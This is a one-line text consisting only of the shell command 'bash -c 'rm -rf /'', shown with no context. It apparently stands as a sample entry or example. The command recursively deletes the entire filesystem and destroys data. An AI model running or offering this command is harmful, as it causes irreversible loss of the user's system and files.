bash -c 'rm -rf /'
